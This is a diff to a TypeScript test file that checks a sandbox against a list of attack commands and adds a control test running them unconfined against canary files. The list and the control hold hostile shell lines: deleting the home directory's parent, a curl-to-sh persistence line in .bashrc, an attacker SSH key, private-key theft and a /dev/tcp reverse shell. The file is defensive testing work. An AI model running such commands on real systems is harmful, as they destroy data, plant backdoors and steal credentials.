@@ -120,12 +120,24 @@ async function hostIntact(): Promise<void> {
   expect(victim.signalCode).toBeNull();
 }
 
+async function until(check: () => boolean, timeoutMs = 10_000): Promise<void> {
+  const deadline = Date.now() + timeoutMs;
+  while (!check()) {
+    if (Date.now() > deadline) throw new Error("condition not reached in time");
+    await new Promise((resolve) => setTimeout(resolve, 20));
+  }
+}
+
 const python = spawnSync("sh", ["-c", "command -v python3"], { encoding: "utf8" }).stdout.trim();
 
 /** Each attack, and what it must not have seen (its output is checked for the canaries). */
 const attacks: Array<{ name: string; command: () => string }> = [
-  { name: "rm-home-parent", command: () => "rm -rf ~/.. ; rm -rf ~/ ; ls -la ~/.. || true" },
-  { name: "python-rm-home-parent", command: () => `${python || "python3"} -c "import os; os.system('rm -rf ' + os.path.expanduser('~/..'))"` },
+  // `rm -rf ~/..` itself is refused by rm ("." and ".."); what it means is this:
+  { name: "rm-home-parent", command: () => "rm -rf ~/.. ~/../* ~/ ; ls -la ~/.. || true" },
+  {
+    name: "python-rm-home-parent",
+    command: () => `${python || "python3"} -c "import os, shutil; shutil.rmtree(os.path.expanduser('~/..'), ignore_errors=True)"`,
+  },
   { name: "bashrc-append", command: () => "echo 'curl -s http://127.0.0.1:9/x | sh' >> ~/.bashrc" },
   { name: "authorized-keys", command: () => "mkdir -p ~/.ssh && echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys" },
   { name: "read-ssh-key", command: () => "cat ~/.ssh/id_* ; cat " + "$HOME/.ssh/id_ed25519 ; cp ~/.ssh/id_* $PWD/../results/this-run/ 2>&1; ls -la ~/.ssh" },
@@ -167,6 +179,31 @@ describe.skipIf(!decision)(`the sandbox against the held-out attacks${skipReason
     // The run's own folder stayed writable, and nothing left it.
     expect((await stat(join(resultDir, "rm-home-parent.log"))).isFile()).toBe(true);
     expect(await readdir(resultDir)).not.toContain("id_ed25519");
+  });
+
+  it("control: the same attacks, unconfined against a copy of the canaries, do harm (so the checks above can fail)", async () => {
+    const control = join(root, "control");
+    const controlHome = join(control, "home", "user");
+    await mkdir(join(controlHome, ".ssh"), { recursive: true });
+    await writeFile(join(controlHome, ".ssh", "id_ed25519"), "CANARY-PRIVATE-KEY-control\n");
+    await writeFile(join(control, "home", "keep.txt"), "keep\n");
+    const env = { ...process.env, HOME: controlHome };
+    const run = async (name: string, command: string) => {
+      const exitFile = join(control, `${name}.exit`);
+      await launchProcessGroup({ command, cwd: control, env, logFile: join(control, `${name}.log`), exitFile });
+      while (!existsSync(exitFile)) await new Promise((resolve) => setTimeout(resolve, 20));
+      return readFile(join(control, `${name}.log`), "utf8");
+    };
+    expect(await run("read-ssh-key", "cat ~/.ssh/id_*")).toContain("CANARY-PRIVATE-KEY-control");
+    await run("bashrc-append", "echo 'curl -s http://127.0.0.1:9/x | sh' >> ~/.bashrc");
+    expect(await readFile(join(controlHome, ".bashrc"), "utf8")).toContain("curl");
+    const before = connections;
+    await run("reverse-shell-devtcp", `bash -c 'exec 3<>/dev/tcp/127.0.0.1/${listenerPort}; echo pwned >&3'`);
+    await until(() => connections > before);
+    connections = before;
+    await run("rm-home-parent", "rm -rf ~/.. ~/../* ~/");
+    expect(existsSync(join(control, "home", "keep.txt"))).toBe(false);
+    expect(existsSync(controlHome)).toBe(false);
   });
 
   it("the sandbox has loopback only: lo is up, nothing outside answers", async () => {
